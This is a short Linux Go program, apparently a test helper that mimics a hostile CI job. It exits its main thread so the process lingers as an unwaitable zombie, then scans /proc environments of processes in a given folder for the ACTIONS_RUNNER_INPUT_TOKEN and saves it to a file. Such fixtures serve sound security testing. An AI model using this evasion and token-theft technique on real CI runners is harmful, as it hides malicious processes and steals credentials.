//go:build linux

// Headless works on in another thread after its first one has ended, as a hostile
// job can: /proc shows it as a zombie, and nobody can wait for it. It writes the
// registration token that it finds in the environment of a process of the folder
// that it is given to the file that it is given.
package main

import (
	"bytes"
	"os"
	"path/filepath"
	"runtime"
	"syscall"
	"time"
)

// The main goroutine keeps the first thread.
func init() { runtime.LockOSThread() }

func main() {
	go hunt(os.Args[1], os.Args[2])
	// Not exit_group: this thread alone.
	_, _, _ = syscall.RawSyscall(syscall.SYS_EXIT, 0, 0, 0)
}

func hunt(home, loot string) {
	_ = os.WriteFile(loot+".ready", nil, 0o644)
	for until := time.Now().Add(5 * time.Minute); time.Now().Before(until); {
		all, _ := filepath.Glob("/proc/[0-9]*/environ")
		for _, path := range all {
			if dir, _ := os.Readlink(filepath.Join(filepath.Dir(path), "cwd")); dir != home {
				continue
			}
			environ, _ := os.ReadFile(path)
			for variable := range bytes.SplitSeq(environ, []byte{0}) {
				if token, found := bytes.CutPrefix(variable, []byte("ACTIONS_RUNNER_INPUT_TOKEN=")); found {
					_ = os.WriteFile(loot, token, 0o644)
					os.Exit(0)
				}
			}
		}
	}
	os.Exit(0)
}
